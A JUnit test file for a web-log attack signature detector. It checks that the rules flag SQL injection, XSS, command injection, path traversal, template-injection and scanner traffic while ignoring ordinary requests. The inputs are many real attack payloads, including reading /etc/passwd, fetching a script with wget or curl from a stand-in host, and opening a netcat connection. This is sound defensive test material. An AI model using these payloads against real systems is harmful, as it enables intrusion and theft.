package io.proxywatch.detect;

import io.proxywatch.record.LogRecord;
import io.proxywatch.rules.RulesError;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.snakeyaml.engine.v2.api.Load;
import org.snakeyaml.engine.v2.api.LoadSettings;

import java.io.InputStream;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class SignatureDetectorTest {
    private static final Map<String, String> SEVERITIES = Map.of(
            "sqli", "high", "xss", "high", "cmd_injection", "high", "path_traversal", "high",
            "sensitive_path", "warning", "scanner", "warning");

    /** The default rules, as packaged. */
    private static final SignatureDetector DEFAULTS = new SignatureDetector(defaultRules());

    static List<SignatureRule> defaultRules() {
        try (InputStream in = SignatureDetectorTest.class.getResourceAsStream("/rules.yaml")) {
            @SuppressWarnings("unchecked")
            Map<String, Object> doc = (Map<String, Object>) new Load(LoadSettings.builder().build()).loadFromInputStream(in);
            @SuppressWarnings("unchecked")
            Map<String, Object> sev = (Map<String, Object>) doc.get("severities");
            Map<String, String> severities = new java.util.HashMap<>();
            sev.forEach((k, v) -> severities.put(k, String.valueOf(v)));
            return SignatureRule.fromYaml((List<?>) doc.get("signatures"), severities, "signatures");
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static List<SignatureRule> parse(String yaml) {
        Object doc = new Load(LoadSettings.builder().build()).loadFromString(yaml);
        return SignatureRule.fromYaml((List<?>) doc, SEVERITIES, "signatures");
    }

    private static LogRecord access(String path, String query, String userAgent, String referer) {
        LogRecord r = new LogRecord();
        r.setStatus(200);
        r.setMethod("GET");
        r.setPath(path);
        r.setQuery(query);
        r.setUserAgent(userAgent);
        if (referer != null) {
            r.getFields().put("referer", referer);
        }
        return r;
    }

    /** The category of what the default rules find in {@code r}; fails when they find nothing. */
    private static String categoryOf(LogRecord r) {
        Finding f = DEFAULTS.check(r);
        assertThat(f).as("a finding in %s ?%s (%s)", r.getPath(), r.getQuery(), r.getUserAgent()).isNotNull();
        return f.category();
    }

    private static final String BROWSER =
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";

    @ParameterizedTest(name = "{0}: {1} ?{2}")
    @CsvSource(delimiter = '|', nullValues = "-", value = {
            "sqli           | /items         | id=1%27%20UNION%20ALL%20SELECT%20NULL,password%20FROM%20users--",
            "sqli           | /login         | user=admin%27%20or%20%27a%27=%27a",
            "sqli           | /items         | id=1;DROP%20TABLE%20users",
            "sqli           | /items         | id=1%20AND%20SLEEP(5)",
            "sqli           | /items         | q=x%27)%20waitfor%20delay%20%270:0:5%27--",
            "sqli           | /items         | id=1/**/UnIoN/**/sElEcT/**/1,2",
            "sqli           | /get           | a=b,1=1",
            "sqli           | /get           | a=42%3C=%3E42",
            "sqli           | /get           | a=11!=1",
            "xss            | /search        | q=%3Cscript%3Ealert(1)%3C/script%3E",
            "xss            | /search        | q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
            "xss            | /search        | next=JaVaScRiPt:alert(document.cookie)",
            "xss            | /search        | q=%26lt;svg/onload=confirm(1)%26gt;",
            "cmd_injection  | /ping          | host=127.0.0.1;cat%20/etc/passwd",
            "cmd_injection  | /ping          | host=127.0.0.1%7C%7Cwget%20http://x.example/a.sh",
            "cmd_injection  | /ping          | host=$(whoami)",
            "cmd_injection  | /ping          | host=%60id%60",
            "cmd_injection  | /ping          | host=x;cat${IFS}/etc/hosts",
            "path_traversal | /download      | file=..%2f..%2f..%2fetc%2fpasswd",
            "path_traversal | /download      | file=%252e%252e%255cwindows%255cwin.ini",
            "path_traversal | /static/%c0%ae%c0%ae/%c0%ae%c0%ae/secret | -",
            "sensitive_path | /.env          | -",
            "sensitive_path | /.git/config   | -",
            "sensitive_path | /wp-login.php  | -",
            "sensitive_path | /backup/db.sql.gz | -",
            "sensitive_path | /actuator/env  | -",
            // exploits real attackers send that an audit found unflagged (PayloadsAllTheThings, the CVEs named)
            "path_traversal | /index.php     | page=php://filter/convert.base64-encode/resource=index.php",
            "path_traversal | /index.php     | file=phar://uploads/a.jpg/shell.php",
            "path_traversal | /index.php     | page=expect://id",
            "cmd_injection  | /index.php     | %ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
            "cmd_injection  | /              | class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "cmd_injection  | /index.php     | s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
            "cmd_injection  | /public/index.php | s=/index/\\think\\request/input&filter=system&data=id",
            "sensitive_path | /%2e/WEB-INF/web.xml | -",
            "sensitive_path | /META-INF/MANIFEST.MF | -",
            "sensitive_path | /manager;/html | -",
            "sensitive_path | /manager;;/html | -",
            "sensitive_path | /WEB-INF;a;/web.xml | -",
            "sensitive_path | /actuator;/gateway/routes/x | -",
            "sensitive_path | /debug//pprof/ | -",
            "sensitive_path | /debug/./pprof/ | -",
            "sqli           | /users         | filter={\"name\":{\"$gte\":\"\"}}"})
    void eachCategoryIsFound(String category, String path, String query) {
        assertThat(categoryOf(access(path, query, BROWSER, null))).isEqualTo(category);
    }

    /** A referer's query writes spaces as '+', as the request's own does. */
    @Test
    void aRefererQueryIsReadWithPlusAsASpace() {
        assertThat(categoryOf(access("/", null, BROWSER,
                "https://shop.example/search?q=1+UNION+SELECT+username,password+FROM+users--"))).isEqualTo("sqli");
    }

    /** Scanners' own banners, as their default user agents carry them (ffuf's help.go, LeakIX). */
    @ParameterizedTest
    @org.junit.jupiter.params.provider.ValueSource(strings = {"Fuzz Faster U Fool v2.1.0-dev",
            "Mozilla/5.0 (l9scan/2.0.1; +https://leakix.net)"})
    void scannerBannersAreFound(String userAgent) {
        assertThat(categoryOf(access("/", null, userAgent, null))).isEqualTo("scanner");
    }

    /** A Caddy line keeps its Referer among the request headers; the referer rules still see it. */
    @Test
    void aCaddyLinesRefererIsChecked() {
        io.proxywatch.parse.RecordParser parser = new io.proxywatch.parse.RecordParser("auto", null);
        String line = "{\"level\":\"info\",\"ts\":1764072000.5,\"logger\":\"http.log.access\","
                + "\"msg\":\"handled request\",\"request\":{\"remote_ip\":\"203.0.113.9\",\"method\":\"GET\","
                + "\"uri\":\"/index.html\",\"headers\":{\"User-Agent\":[\"Mozilla/5.0\"],"
                + "\"Referer\":[\"https://x.example/?q=<script>alert(1)</script>\"]}},"
                + "\"status\":200,\"duration\":0.002,\"size\":12}";
        LogRecord r = parser.parse(line, "caddy.log", 0);
        assertThat(r.isAccess()).isTrue();
        assertThat(categoryOf(r)).isEqualTo("xss");
        assertThat(DEFAULTS.check(parser.parse(line.replace("<script>alert(1)</script>", "shoes"), "caddy.log", 1)))
                .isNull();
    }

    /**
     * Fields are the request's, of any length up to the line limit: a megabyte built to make the regexes recurse is
     * checked (in windows) without overflowing, and an attack at its very end, or glued on past a window's edge, is
     * still found.
     */
    @Test
    void aMegabyteFieldIsCheckedToItsEnd() {
        String filler = "select a ".repeat(120_000);
        assertThat(DEFAULTS.check(access("/search", "q=" + filler, BROWSER, null))).isNull();
        assertThat(categoryOf(access("/search", "q=" + filler + "' union select password from users--", BROWSER,
                null))).isEqualTo("sqli");
        String cutAtEdge = "x".repeat(RegexWindows.WINDOW - 10) + "/../../etc/passwd" + "x".repeat(50_000);
        assertThat(DEFAULTS.check(access("/files", "name=" + cutAtEdge, BROWSER, null))).isNotNull();
    }

    @Test
    void scannerUserAgentsAreFound() {
        for (String ua : List.of("sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3",
                "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (compatible; Nuclei - Open-source project)", "WPScan v3.8")) {
            assertThat(categoryOf(access("/", null, ua, null))).as(ua).isEqualTo("scanner");
        }
    }

    @Test
    void attacksInHeadersAreFound() {
        assertThat(DEFAULTS.check(access("/", null, "() { :;}; /bin/bash -c 'id'", null))).isNotNull();
        assertThat(DEFAULTS.check(access("/", null, BROWSER, "https://x.example/?q=<script>alert(1)</script>")))
                .isNotNull();
    }

    /**
     * A shell ends a command at a line break as at ';', and removes quotes, backslashes and an empty {@code $@}
     * from a word before running it: the separator rule sees the command these spellings run.
     */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
            "host=127.0.0.1%0aid",
            "ip=1.1.1.1%0acat%20/etc/passwd",
            "host=127.0.0.1%0d%0aid",
            "ip=1.1.1.1%0d%0acat%20/etc/passwd",
            "host=127.0.0.1%0Auname%20-a%0A",
            "host=x;w'h'o'am'i",
            "file=x|c%22a%22t%20/etc/passwd",
            "host=x;who%5Cami",
            "host=x;wh$@oami",
            "host=x;c''at%20/etc/hosts",
            "host=x%0Aw'h'o'am'i",
            // after a line break: a blind probe, a host or address, a URL, the last line, the parameter's end
            "host=127.0.0.1%0asleep%205",
            "host=127.0.0.1%0aping%20abc.oast.fun",
            "host=127.0.0.1%0anc%20203.0.113.9%204444",
            "host=127.0.0.1%0ash%20x.sh",
            "host=127.0.0.1%0acurl%20http://x.example/a",
            "host=127.0.0.1%0aid%0a",
            "host=127.0.0.1%0aid&submit=1",
            // SQL comment signs mean nothing to a shell: the command after them still runs
            "host=127.0.0.1%23;id%0a",
            "host=127.0.0.1--;id%0a"})
    void aCommandAfterALineBreakOrSpelledWithQuotesIsFound(String query) {
        assertThat(DEFAULTS.check(access("/api/ping", query, BROWSER, null)))
                .isEqualTo(new Finding("cmd-separator-command", "cmd_injection", "high"));
    }

    @Test
    void aCommandAfterALineBreakInThePathIsFound() {
        assertThat(DEFAULTS.check(access("/tools/ping/127.0.0.1%0aid", null, BROWSER, null)))
                .isEqualTo(new Finding("cmd-separator-command", "cmd_injection", "high"));
    }

    /** The same words as text people write: lines of prose, apostrophes, Windows-like paths. */
    @ParameterizedTest(name = "{0} ?{1}")
    @CsvSource(delimiter = '|', nullValues = "-", quoteCharacter = '"', value = {
            "/contact                             | message=hello%0aworld",
            "/contact                             | message=Hello,%0D%0AMore+soon.%0D%0ARegards",
            "/contact                             | message=Go+to+store.%0AAt+the+store,+shop.",
            "/contact                             | message=Thanks!%0Atime+to+go%0Acat+food+is+on+the+list",
            "/export                              | columns=Title%0ADate%0AType%0AFile",
            "/export                              | columns=Name%0AID%0AEmail",
            "/export                              | columns=Name%0AIP",
            "/profile                             | skills=Skills:%0AJava%0APython%0ANode",
            "/contact                             | message=Thanks%0APS",
            "/contact                             | message=Lunch%0Aat+$5%0Aat+~5pm",
            "/contact                             | message=Our+list:%0Atop+10+tips%0Amore+5+days",
            "/ping                                | host=127.0.0.1%0did",
            "/contact                             | message=See+you%0Alater.%0AMore.%0AWho%3F",
            "/search                              | q=O%27Reilly+books",
            "/search                              | q=it's+a+cat",
            "/search                              | q=c%27est+la+vie",
            "/search                              | q=%22who+am+i%22+lyrics",
            "/search                              | q=8%22x11%22+paper",
            "/share/reports%5C2024%5Csummary.pdf   | -",
            "/files                               | dir=reports%5C2024%5Cq1&name=who%5Cis.txt"})
    void proseQuotesAndBackslashesAreNotFlagged(String path, String query) {
        assertThat(DEFAULTS.check(access(path, query, BROWSER, "https://www.google.com/search?q=it%27s+here")))
                .isNull();
    }

    /** Template-engine probes and object walks, and Java's ways to a process: code execution, as commands are. */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
            "q={{7*7}}",
            "q=%24%7B7*7%7D",
            "name=%3C%25%3D+7*7+%25%3E",
            "q=%23%7B7*7%7D",
            "q={{''.__class__.__mro__[1].__subclasses__()}}",
            "q={{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
            "q={%25+import+os+%25}{{os.system('id')}}",
            "x=%25{(%23_memberAccess['allowStaticMethodAccess']=true)}",
            "q=%23%7BT(java.lang.Runtime)%7D",
            "cmd=java.lang.ProcessBuilder",
            "e=''.getClass().forName('javax.script.ScriptEngineManager')"})
    void templateAndJavaCodeExecutionIsFound(String query) {
        assertThat(categoryOf(access("/render", query, BROWSER, null))).isEqualTo("cmd_injection");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
            "utm_content={{first_name}}",
            "q={{+page+}}",
            "price=${price}",
            "q=7*7",
            "q=java+tutorial",
            "q=java.lang.String+docs",
            "q=process+builder+pattern"})
    void templatePlaceholdersAndJavaWordsAreNotFlagged(String query) {
        assertThat(DEFAULTS.check(access("/search", query, BROWSER, null))).isNull();
    }

    /**
     * An SQL comment is a blank to SQL only: to a browser the payload inside one, or after a {@code #} up to a line
     * break, is markup. Folding the comment away for every rule hid it.
     */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
            "q=x/*%3Cscript%3Ealert(1)%3C/script%3E*/",
            "q=x%23%3Cscript%3Ealert(1)%3C/script%3E%0a",
            "q=x--%3Cimg%20src=x%20onerror=alert(1)%3E%0a"})
    void markupInsideAnSqlCommentIsFound(String query) {
        assertThat(categoryOf(access("/search", query, BROWSER, null))).isEqualTo("xss");
    }

    /** ... while to the SQL rules the comment is still the blank it is to a database. */
    @Test
    void toTheSqlRulesACommentIsStillABlank() {
        assertThat(DEFAULTS.check(access("/items", "id=1+union/**/select+password+from+users", BROWSER, null))
                .category()).isEqualTo("sqli");
        assertThat(DEFAULTS.check(access("/items", "id=1+union%23x%0aselect+password+from+users", BROWSER, null))
                .category()).isEqualTo("sqli");
    }

    /**
     * Inline comments between the words of an injection ({@code 1'/**}{@code /OR/**}{@code /1=1}) are SQL's: a
     * comment is not a shell glob's path segment, so the finding is an SQL injection, not a command injection.
     */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
            "q=1'/**/OR/**/1=1",
            "id=1/**/AND/**/1=1",
            "user=admin'/**/--",
            "id=1/*x*/or/*x*/1=1",
            "id=1/*!50000union*//*!50000select*/password/**/from/**/users"})
    void inlineCommentsInAnInjectionAreSqlNotAGlob(String query) {
        assertThat(categoryOf(access("/items", query, BROWSER, null))).isEqualTo("sqli");
    }

    /** Entities padded with zeros, as browsers read them, in a value reflected into a link. */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"next=javascript%26%230000000058%3Blocation%3Dname",
            "next=javascript%26%23x000000003a%3Blocation%3Dname"})
    void aScriptUriSpelledWithZeroPaddedEntitiesIsXss(String query) {
        assertThat(categoryOf(access("/login", query, BROWSER, null))).isEqualTo("xss");
    }

    /** A glob's segments still read as one, in the query and in a header. */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"f=;cat+/???/p?ss??", "f=;cat+/*/passwd", "f=x;/b?n/c?t+/etc/passwd", "f=/e*c/p*d"})
    void aGlobbedPathIsStillACommandInjection(String query) {
        assertThat(categoryOf(access("/items", query, BROWSER, null))).isEqualTo("cmd_injection");
    }

    /** A word between stars with no SQL around it is still a glob: /*in*{@code /}id runs /bin/id. */
    @Test
    void aWordBetweenStarsWithNoSqlAroundItIsAGlob() {
        assertThat(DEFAULTS.check(access("/items", "x=/*in*/id", BROWSER, null)))
                .isEqualTo(new Finding("cmd-star-segment", "cmd_injection", "high"));
    }

    /** A verdict found in the shell's reading is kept and given again like any other. */
    @Test
    void aVerdictFoundInTheShellReadingIsTheSameFromTheCache() {
        SignatureDetector d = new SignatureDetector(defaultRules());
        LogRecord r = access("/api/ping", "host=x;w'h'o'am'i", BROWSER, null);
        Finding first = d.check(r);
        assertThat(first).isNotNull();
        assertThat(d.check(r)).isEqualTo(first);
        assertThat(d.check(access("/api/ping", "host=x;w'h'o'am'i", BROWSER, "https://x.example/?q=1"))
                ).isEqualTo(first);
    }

    @ParameterizedTest(name = "{0} ?{1}")
    @CsvSource(delimiter = '|', nullValues = "-", value = {
            "/images/logo.png                     | -",
            "/blog/2015/05/how-to-select-a-router | -",
            "/search                              | q=rock+and+roll&page=2",
            "/search                              | q=union+station+chicago",
            "/search                              | q=cat+pictures&sort=date",
            "/products                            | category=cat&id=42&order=price",
            "/api/items                           | ids=1,2,3&fields=name,price",
            "/docs/select-from-where.html         | -",
            "/feed                                | utm_source=feedburner&utm_medium=feed&utm_campaign=Feed:+main",
            "/.well-known/acme-challenge/abc      | -",
            "/files/app-1.2.tar.gz                | -",
            "/login                               | next=%2Faccount%2Fsettings",
            "/search                              | q=O%27Brien",
            "/wiki/Main_Page                      | action=edit&section=2",
            // arithmetic a user typed: a false equation is no tautology
            "/search                              | q=2%2B2%3D4",
            "/calc                                | expr=2+2=4&show=1"})
    void ordinaryTrafficIsNotFlagged(String path, String query) {
        assertThat(DEFAULTS.check(access(path, query, BROWSER, "https://www.google.com/search?q=router+setup")))
                .isNull();
    }

    @Test
    void ordinaryUserAgentsAreNotFlagged() {
        for (String ua : List.of(BROWSER, "curl/8.4.0", "Wget/1.21.3", "python-requests/2.31.0",
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                "Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.16.0; x86_64-linux; +http://opscode.com)",
                "Mozilla/5.0 (Windows; U; Windows NT 5.1; nl; rv:1.9.2) Gecko/20100115 Firefox/3.6")) {
            assertThat(DEFAULTS.check(access("/", null, ua, null))).as(ua).isNull();
        }
    }

    @Test
    void theMostSevereMatchWinsAndTiesGoToTheFirstInFileOrder() {
        List<SignatureRule> rules = parse("""
                - {id: probe, category: sensitive_path, in: [path], pattern: 'admin'}
                - {id: first-high, category: sqli, in: [query], pattern: 'union'}
                - {id: second-high, category: xss, in: [query], pattern: 'script'}
                - {id: crit, category: cmd_injection, in: [user_agent], pattern: 'bash', severity: critical}
                """);
        SignatureDetector d = new SignatureDetector(rules);

        assertThat(d.check(access("/admin", "q=union+script", "x", null)))
                .isEqualTo(new Finding("first-high", "sqli", "high"));
        assertThat(d.check(access("/admin", "q=script+union", "bash", null)))
                .isEqualTo(new Finding("crit", "cmd_injection", "critical"));
        assertThat(d.check(access("/admin", null, "x", null)))
                .isEqualTo(new Finding("probe", "sensitive_path", "warning"));
    }

    @Test
    void aRuleLooksOnlyAtItsFields() {
        SignatureDetector d = new SignatureDetector(parse("- {id: r, category: xss, in: [referer], pattern: '<x'}"));
        assertThat(d.check(access("/<x", "a=<x", "<x", null))).isNull();
        assertThat(d.check(access("/", null, null, "http://e.example/<x"))).isNotNull();
    }

    @Test
    void recordsThatAreNotAccessLinesAreIgnored() {
        LogRecord r = access("/?q=<script>", "q=<script>", "sqlmap", null);
        r.setStatus(null);
        assertThat(DEFAULTS.check(r)).isNull();
    }

    @Test
    void aRuleWithoutSeverityTakesItsCategoryDefault() {
        List<SignatureRule> rules = parse("""
                - {id: a, category: scanner, in: [user_agent], pattern: 'x'}
                - {id: b, category: scanner, in: [user_agent], pattern: 'y', severity: High}
                """);
        assertThat(rules).extracting(SignatureRule::severity).containsExactly("warning", "high");
        assertThat(rules.get(0).targets()).containsExactly(SignatureRule.Target.USER_AGENT);
    }

    @ParameterizedTest(name = "{1}")
    @CsvSource(delimiter = '|', value = {
            "- {id: a, category: sqli, in: [query], pattern: 'x'}\\n- {id: b, category: sqli, in: [query], pattern: '(unclosed'} | signatures[1].pattern",
            "- {id: a, category: sqli, in: [query], pattern: 'x'}\\n- {id: a, category: xss, in: [query], pattern: 'y'}         | signatures[1].id",
            "- {id: a, category: sqlinjection, in: [query], pattern: 'x'}                                                        | signatures[0].category",
            "- {id: a, category: sqli, in: [body], pattern: 'x'}                                                                 | signatures[0].in[0]",
            "- {id: a, category: sqli, pattern: 'x'}                                                                             | signatures[0].in",
            "- {id: a, category: sqli, in: [query]}                                                                              | signatures[0].pattern",
            "- {id: a, category: sqli, in: [query], pattern: 'UNION'}                                                            | signatures[0].pattern",
            "- {id: a, category: sqli, in: [query], pattern: 'x', severity: urgent}                                              | signatures[0].severity",
            "- {id: a, category: sqli, in: [query], pattern: 'x', where: path}                                                   | signatures[0].where",
            "- just-a-string                                                                                                     | signatures[0]"})
    void mistakesInTheRulesFileNameThePlace(String yaml, String where) {
        assertThatThrownBy(() -> parse(yaml.replace("\\n", "\n")))
                .isInstanceOf(RulesError.class)
                .hasMessageStartingWith(where + ":");
    }

    @Test
    void anInvalidRegexSaysWhatIsWrong() {
        assertThatThrownBy(() -> parse("- {id: a, category: sqli, in: [query], pattern: 'a(b'}"))
                .isInstanceOf(RulesError.class)
                .hasMessageContaining("signatures[0].pattern")
                .hasMessageContaining("Unclosed group");
    }

    @Test
    void theLiteralPreCheckIsConservative() {
        // the literals each rule is pre-checked on must occur in every text the rule matches
        assertThat(RequiredLiterals.of("union[ (]*+(?:all)?[ (]*+select")).contains("select");
        assertThat(RequiredLiterals.of("\\.{2,3}[/\\\\]")).containsExactly("..");
        assertThat(RequiredLiterals.of("(?:cat|id) /")).containsExactlyInAnyOrder("cat /", "id /");
        assertThat(RequiredLiterals.of("a|b*")).isNull();       // b* matches the empty string
        assertThat(RequiredLiterals.of("\\w+=\\d")).isNotEmpty(); // '=' at least
        assertThat(RequiredLiterals.of("(?x) u n i o n")).isNull(); // comments mode: not read
    }
}
